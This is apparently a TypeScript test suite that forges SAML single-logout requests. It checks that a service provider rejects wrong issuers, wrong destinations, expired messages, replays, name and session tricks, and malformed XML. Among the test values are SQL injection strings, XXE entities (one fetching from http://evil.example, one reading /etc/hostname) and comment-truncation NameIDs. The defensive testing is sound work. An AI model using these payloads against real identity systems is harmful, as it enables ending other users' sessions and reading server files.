import type { ProblemCode } from '../../../src/http/codes';
import { change } from '../../support/change';
import type { LogoutPlan } from '../../support/idp/logout-xml';
import { minutesAfter } from '../../support/idp/response-plan';
import type { LogoutAttack, LogoutFamily } from '../support/logout-attack';
import {
  type LogoutStage,
  redirected,
  requestXml,
  responseXml,
  SESSION_INDEX,
} from '../support/logout-stage';

type Plan = (stage: LogoutStage) => Partial<LogoutPlan>;
type Edit = (xml: string, stage: LogoutStage) => string;

/** Signed by the IdP: for another, for another time, or about somebody else. */
const planned = (
  name: string,
  code: ProblemCode | undefined,
  plan: Plan,
  ids?: readonly string[],
): LogoutAttack => ({
  name,
  ids,
  forge: (_, stage) => redirected(stage, requestXml(stage, plan(stage))),
  code,
});

/** Signed by the IdP, though a schema would not have it. */
const written = (
  name: string,
  code: ProblemCode | undefined,
  edit: Edit,
  ids?: readonly string[],
): LogoutAttack => ({
  name,
  ids,
  forge: (_, stage) => redirected(stage, edit(requestXml(stage), stage)),
  code,
});

const OTHER = 'https://other.example';
const now = ({ app }: LogoutStage) => app.clock.now();
const until = (xml: string, end: Date | string) =>
  change(
    xml,
    ' Version="2.0"',
    ` Version="2.0" NotOnOrAfter="${typeof end === 'string' ? end : end.toISOString()}"`,
  );
const NAME_ID = /<saml:NameID>[^<]*<\/saml:NameID>/;
const named =
  (markup: string): Edit =>
  (xml) =>
    xml.replace(NAME_ID, markup);
const indexed =
  (markup: string): Edit =>
  (xml) =>
    change(xml, `<samlp:SessionIndex>${SESSION_INDEX}</samlp:SessionIndex>`, markup);
const withId =
  (id: string): Edit =>
  (xml) =>
    xml.replace(/ ID="[^"]*"/, ` ID="${id}"`);
const XXE = ['CVE-2021-27736', 'CVE-2024-22024'];

const forOthers: readonly LogoutAttack[] = [
  planned('of another IdP that has the same key', 'saml.issuer_mismatch', () => ({ issuer: OTHER }), [
    'CVE-2023-41890',
  ]),
  planned('of the IdP with a slash behind its name', 'saml.issuer_mismatch', ({ idp }) => ({
    issuer: `${idp.entityId}/`,
  })),
  written('of nobody', 'saml.issuer_mismatch', (xml) => xml.replace(/<saml:Issuer>.*<\/saml:Issuer>/, '')),
  planned('for another service', 'saml.destination_mismatch', () => ({ destination: `${OTHER}/slo` }), [
    'CVE-2015-6254',
  ]),
  planned('for another tenant of the same IdP', 'saml.destination_mismatch', ({ neighbour }) => ({
    destination: neighbour.tenant.sp.sloUrl,
    nameId: neighbour.alice,
  })),
  planned('for the ACS', 'saml.destination_mismatch', ({ tenant }) => ({ destination: tenant.sp.acsUrl })),
  planned('for the SLO address with a query', 'saml.destination_mismatch', ({ tenant }) => ({
    destination: `${tenant.sp.sloUrl}?x`,
  })),
  written('for nobody', 'saml.destination_mismatch', (xml) => xml.replace(/ Destination="[^"]*"/, '')),
];

const atOtherTimes: readonly LogoutAttack[] = [
  written(
    'good until two minutes ago',
    'saml.expired',
    (xml, stage) => until(xml, minutesAfter(now(stage), -2)),
    ['CVE-2023-40178'],
  ),
  planned(
    'issued a quarter of an hour ago',
    'saml.expired',
    (stage) => ({ issueInstant: minutesAfter(now(stage), -15) }),
    ['CVE-2023-40178'],
  ),
  planned('issued in two minutes', 'saml.not_yet_valid', (stage) => ({
    issueInstant: minutesAfter(now(stage), 2),
  })),
  written('good until a day that there is not', 'saml.malformed', (xml) =>
    until(xml, '2026-02-30T00:00:00Z'),
  ),
  written('good until a time of no zone', 'saml.malformed', (xml) => until(xml, '2126-01-01T00:00:00')),
  {
    name: 'shown once more, when it has expired',
    ids: ['CVE-2023-40178'],
    forge: (_, { app }, accepted) => {
      app.clock.advance(12 * 60);
      return accepted;
    },
    code: 'saml.expired',
  },
  {
    name: 'shown once more, when the user has signed in again',
    ids: ['CVE-2023-40178'],
    forge: async (_, { app, tenant }, accepted) => {
      await app.dataSource.query(
        `UPDATE sessions SET issued_at = now() + interval '2 minutes' WHERE tenant_id = $1`,
        [tenant.id],
      );
      return accepted;
    },
    code: undefined,
  },
];

const aboutOthers: readonly LogoutAttack[] = [
  planned('of another user', undefined, ({ loot }) => ({ nameId: loot.victim })),
  planned('of the user of the same name at another tenant', undefined, ({ neighbour }) => ({
    nameId: neighbour.alice,
  })),
  planned('of a user without a domain', undefined, () => ({ nameId: 'alice' })),
  planned('of everybody, as SQL has it', undefined, ({ alice }) => ({ nameId: alice.replace('alice', '%') })),
  planned('of everybody, as a shell has it', undefined, () => ({ nameId: '*' })),
  planned('of a name that ends its statement', undefined, () => ({ nameId: "' OR '1'='1" }), [
    'CVE-2025-9943',
  ]),
  planned('of another session', undefined, () => ({ sessionIndexes: ['_another'] })),
  planned('of a session that ends its statement', undefined, () => ({ sessionIndexes: ["' OR '1'='1"] }), [
    'CVE-2025-9943',
  ]),
  written('of a session without a name', undefined, indexed('<samlp:SessionIndex/>')),
  written(
    'of a session in a comment',
    undefined,
    indexed(`<samlp:SessionIndex><!--${SESSION_INDEX}--></samlp:SessionIndex>`),
  ),
  written(
    'of a session with more behind a comment',
    undefined,
    indexed(`<samlp:SessionIndex>${SESSION_INDEX}<!---->-x</samlp:SessionIndex>`),
  ),
  {
    name: 'of the attacker’s own name, which begins as the victim’s does, with a comment between',
    ids: ['CVE-2017-11427', 'CVE-2017-11428', 'CVE-2017-11429'],
    forge: (_, stage) =>
      redirected(
        stage,
        named(`<saml:NameID>${stage.alice}<!---->.evil.example</saml:NameID>`)(requestXml(stage), stage),
      ),
    code: undefined,
  },
  written('of a name in an instruction', 'saml.malformed', named('<saml:NameID><?x y?>alice</saml:NameID>'), [
    'CVE-2025-54369',
  ]),
  written('of a name in an element', 'saml.malformed', named('<saml:NameID><x>alice</x></saml:NameID>'), [
    'CVE-2020-1677',
  ]),
  written('of nobody at all', 'saml.nameid_missing', named('')),
  written('of blanks', 'saml.nameid_missing', named('<saml:NameID> \n</saml:NameID>')),
  written('of a BaseID', 'saml.nameid_missing', named('<saml:BaseID/>')),
  written('of two names', 'saml.malformed', (xml) => xml.replace(NAME_ID, (name) => name + name)),
  written('of a name and an encrypted one', 'saml.malformed', (xml) =>
    xml.replace(NAME_ID, (name) => `${name}<saml:EncryptedID/>`),
  ),
  written('of an encrypted name, where nothing is encrypted', 'saml.malformed', named('<saml:EncryptedID/>')),
  written(
    'of a thousand sessions and one',
    'saml.malformed',
    indexed('<samlp:SessionIndex>x</samlp:SessionIndex>'.repeat(1001)),
  ),
];

const documents: readonly LogoutAttack[] = [
  written('with an ID that stands for a setting of ours', 'saml.malformed', withId('${user.home}'), [
    'CVE-2017-2582',
  ]),
  written('with an ID that ends its attribute', 'saml.malformed', withId('a&quot; x=&quot;'), [
    'CVE-2021-37154',
    'CVE-2026-46490',
  ]),
  written('with an ID that ends its statement', 'saml.malformed', withId("_'||(select 1)||'"), [
    'CVE-2025-9943',
  ]),
  written(
    'with an external entity',
    'saml.malformed',
    (xml) => `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>${xml}`,
    XXE,
  ),
  written(
    'with a parameter entity',
    'saml.malformed',
    (xml) => `<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/d">%d;]>${xml}`,
    XXE,
  ),
  written('with elements in one another, ten thousand deep', 'saml.malformed', (xml) =>
    change(xml, '</saml:Issuer>', `</saml:Issuer>${'<x>'.repeat(10_000)}${'</x>'.repeat(10_000)}`),
  ),
  written(
    'with Extensions that are not closed, in the middle',
    'saml.malformed',
    (xml) => change(xml, '</saml:NameID>', '</saml:NameID><samlp:Extensions>'),
    ['CVE-2017-2646'],
  ),
  written('of Version 1.1', 'saml.malformed', (xml) => change(xml, 'Version="2.0"', 'Version="1.1"')),
  written('of another namespace', 'saml.malformed', (xml) =>
    change(xml, 'SAML:2.0:protocol', 'SAML:1.0:protocol'),
  ),
  written('as a request to sign in', 'saml.malformed', (xml) =>
    xml.replaceAll('samlp:LogoutRequest', 'samlp:AuthnRequest'),
  ),
  written('that is an answer', 'saml.malformed', (_, stage) => responseXml(stage)),
  written('that is a response to sign in', 'saml.malformed', (_, { loot }) => loot.genuine('response')),
  written(
    'in an envelope',
    'saml.malformed',
    (xml) =>
      `<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>${xml}</s:Body></s:Envelope>`,
  ),
];

export const logoutClaims: LogoutFamily = {
  name: 'logout of others, or at other times',
  why: 'A message that the IdP signed ends sessions of somebody else if it is not held to whom it was made for, when, and about whom. Here Issuer and Destination are compared as at sign-in, times are checked, a name is read whole, a list of sessions that names none ends none, and no session that began after the message is meant.',
  endsSessions: true,
  from: (stage) => redirected(stage, requestXml(stage)),
  attacks: [...forOthers, ...atOtherTimes, ...aboutOthers, ...documents],
};
